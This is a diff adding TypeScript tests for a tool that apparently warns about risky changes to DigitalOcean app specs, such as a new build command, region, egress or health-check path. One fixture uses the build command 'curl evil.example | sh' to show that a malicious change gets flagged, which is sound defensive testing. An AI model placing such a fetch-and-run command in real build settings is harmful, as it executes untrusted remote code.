@@ -85,6 +85,73 @@ const bucket = (name: string) => `aws:s3/bucket${name}:Bucket${name}`;
 const by = (sseAlgorithm: string) => ({ applyServerSideEncryptionByDefault: { sseAlgorithm } });
 const five = { noncurrentVersionExpiration: { noncurrentDays: 7, newerNoncurrentVersions: 5 } };
 
+describe("changes of an app that take nothing away", () => {
+  const asked = (httpPath?: string) => ({ healthCheck: { httpPath, periodSeconds: 10 } });
+  const service = (settings: Values) => ({ services: [{ name: "api", ...settings }] });
+  test.each<[string, Values, Values, string[]]>([
+    [
+      "another build command",
+      site({ buildCommand: "npm ci" }),
+      site({ buildCommand: "curl evil.example | sh" }),
+      ["warn: builds the static site web otherwise (buildCommand): npm ci → curl evil.example | sh"],
+    ],
+    [
+      "another folder and kind of source",
+      site({ sourceDir: "/", outputDir: "dist" }),
+      site({
+        sourceDir: "/site",
+        outputDir: "out",
+        environmentSlug: "node-js",
+        dockerfilePath: "Dockerfile",
+      }),
+      [
+        "warn: builds the static site web otherwise (sourceDir): / → /site",
+        "warn: builds the static site web otherwise (dockerfilePath): nothing → Dockerfile",
+        "warn: builds the static site web otherwise (environmentSlug): nothing → node-js",
+        "warn: builds the static site web otherwise (outputDir): dist → out",
+      ],
+    ],
+    [
+      "another region",
+      { region: "nyc", ...service({}) },
+      { region: "fra", ...service({}) },
+      ["warn: is to run in another region: nyc → fra"],
+    ],
+    [
+      "other addresses to leave from",
+      { egresses: [{ type: "DEDICATED_IP" }] },
+      {},
+      ['warn: leaves from other addresses: [{"type":"DEDICATED_IP"}] → nothing'],
+    ],
+    [
+      "another health path",
+      service(asked("/api/health")),
+      service(asked("/")),
+      ["warn: asks another path how the service api is (healthCheck): /api/health → /"],
+    ],
+    [
+      "a health check of the port only",
+      service(asked("/api/health")),
+      service(asked()),
+      ["warn: asks another path how the service api is (healthCheck): /api/health → nothing"],
+    ],
+    [
+      "nothing of it",
+      service(asked("/")),
+      service({ healthCheck: { httpPath: "/", periodSeconds: 20 } }),
+      [],
+    ],
+  ])("%s", (_, before, after, said) => {
+    expect(app(before, after)).toEqual(said);
+  });
+
+  test("a first app changes nothing", () => {
+    expect(
+      found("digitalocean:index/app:App", {}, { spec: { region: "fra", ...site({ buildCommand: "a" }) } }),
+    ).toEqual([]);
+  });
+});
+
 describe("what protects backups", () => {
   test.each<[string, string, Values, Values, string[]]>([
     [
